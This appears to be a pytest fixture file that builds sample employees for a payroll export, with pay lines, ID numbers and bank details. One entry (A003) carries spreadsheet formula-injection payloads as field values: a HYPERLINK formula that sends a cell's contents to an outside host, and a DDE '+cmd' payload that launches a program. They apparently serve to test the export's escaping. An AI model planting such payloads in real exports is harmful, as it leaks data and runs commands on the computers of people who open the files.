"""People to export, written out by hand."""

from __future__ import annotations

from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

from payroll.domain.facts import Employment
from payroll.domain.lines import Kind
from payroll.exports.person import ExportLine, ExportPerson

Maker = Callable[..., ExportPerson]


def lines_of(text: str) -> tuple[ExportLine, ...]:
    """``+code amount`` is an earning, ``-code amount`` a deduction, ``*code amount`` an employer line."""
    kinds = {"+": Kind.EARNING, "-": Kind.DEDUCTION, "*": Kind.EMPLOYER}
    parts = [part.split() for part in text.split(",")]
    return tuple(ExportLine(code[1:], kinds[code[0]], Decimal(amount)) for code, amount in parts)


def person_of(agent_no: str, name: str, gross: str, net: str, lines: str, **values: Any) -> ExportPerson:
    return ExportPerson(
        agent_no=agent_no, name=name, gross=Decimal(gross), net=Decimal(net), lines=lines_of(lines), **values
    )


@pytest.fixture
def simple() -> Maker:
    """A person who is paid 100.00 to a bank account of their own, but for what the test says."""

    def make(agent_no: str = "A1", **values: Any) -> ExportPerson:
        values = {
            "name": "王小明",
            "id_type": "resident_id",
            "id_no": f"11010119900307{int(agent_no[1:]):04d}",
            "bank_name": "演示银行",
            "bank_account": f"622200000000000{int(agent_no[1:]):04d}",
            **values,
        }
        name = values.pop("name")
        return person_of(agent_no, name, "100.00", "100.00", "+base_pay 100.00", **values)

    return make


@pytest.fixture
def company() -> list[ExportPerson]:
    """Six people, one of each fate."""
    return [
        person_of(
            "A001", "王小明", "5000.00", "4225.00",
            "+base_pay 4000.00, +commission 1200.50, +absence_deduction -200.50, -pension 400.00, -medical 100.00,"
            "-unemployment 25.00, -housing_fund 250.00, -income_tax 0.00,"
            "*employer_pension 800.00, *employer_housing_fund 250.00",
            id_no="110101199003070011", bank_name="中国银行", bank_account="6222 0000-0000 0000 011",
            alipay="not-used@example.com", department="售前",
        ),
        person_of(
            "A002", "李雷", "3000.00", "2400.00", "+base_pay 3000.00, -loss_recovery 600.00",
            alipay="lilei@example.com", department="售后",
        ),
        person_of(
            "A003", '=HYPERLINK("http://x?"&A2,"a")', "2000.00", "2000.00", "+base_pay 2000.00",
            id_type="passport", id_no="E12345678", bank_name="+cmd|'/C calc'!A0", bank_account="0012345678",
            department="售前",
        ),
        person_of(
            "A004", "韩梅梅", "1000.10", "1000.10", "+base_pay 1000.1",
            id_type="resident_id", id_no="11010119900307002X", department="售后",
        ),
        person_of(
            "A005", "赵六", "500.00", "0.00", "+base_pay 500.00, -loss_recovery 800.00, -carry_forward -300.00",
            id_no="110101199003070054", department="售后",
        ),
        person_of(
            "A006", "孙七", "1200.00", "1200.00", "+daily_pay 1200.00",
            id_no="110101199003070062", bank_name="中国银行", bank_account="6222000000000000066",
            employment=Employment.TEMP,
        ),
    ]  # fmt: skip
